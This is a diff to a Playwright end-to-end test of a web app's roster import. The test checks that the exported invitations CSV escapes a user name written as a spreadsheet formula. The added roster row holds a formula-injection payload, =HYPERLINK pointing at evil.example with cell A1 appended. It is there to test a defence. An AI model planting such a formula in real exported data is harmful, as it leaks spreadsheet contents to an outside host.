@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
+import { readFileSync } from 'node:fs';
 import type { Page } from 'playwright-core';
 import { adminAuth } from '../support/admin';
 import { AUTH_HOST } from '../support/env';
@@ -80,7 +81,8 @@ describe('web app: the Users page', function () {
     const roster = [
       'email,name,password',
       `${rosterPassword},Rita Roster,roster-password`,
-      `${rosterInvited},Ivo Roster,`,
+      // A name a spreadsheet would evaluate: the invitations CSV writes it escaped beside the live link.
+      `${rosterInvited},"=HYPERLINK(""http://evil.example/?x=""&A1,""Ivo"")",`,
       `${tenant.student.email},Test student,`,
       'not-an-email,Bad Row,',
     ].join('\n');
@@ -106,10 +108,19 @@ describe('web app: the Users page', function () {
     await page.getByText(/^Imported: 2 new students, 1 already there, 1 with errors\.$/).waitFor();
     const links = page.getByRole('table', { name: /Rows of the roster/ }).locator('code');
     assert.equal(await links.count(), 1, 'one invitation link: the row without a password');
-    await page.getByRole('button', { name: 'Download the invitation links (CSV)' }).waitFor();
+    const rosterLink = (await links.first().textContent())!;
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: 'Download the invitation links (CSV)' }).click(),
+    ]);
+    assert.equal(download.suggestedFilename(), 'invitations.csv');
+    assert.equal(
+      readFileSync((await download.path())!, 'utf8'),
+      `email,name,invitation_link\n${rosterInvited},"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ivo"")",${rosterLink}\n`,
+    );
     await checkPage(page, this, 'roster imported');
     assert.ok(await signIn(rosterPassword, 'roster-password'));
-    assert.ok(await acceptInvitation((await links.first().textContent())!, rosterInvited));
+    assert.ok(await acceptInvitation(rosterLink, rosterInvited));
     await students.getByRole('cell', { name: rosterInvited, exact: true }).waitFor();
   });
 
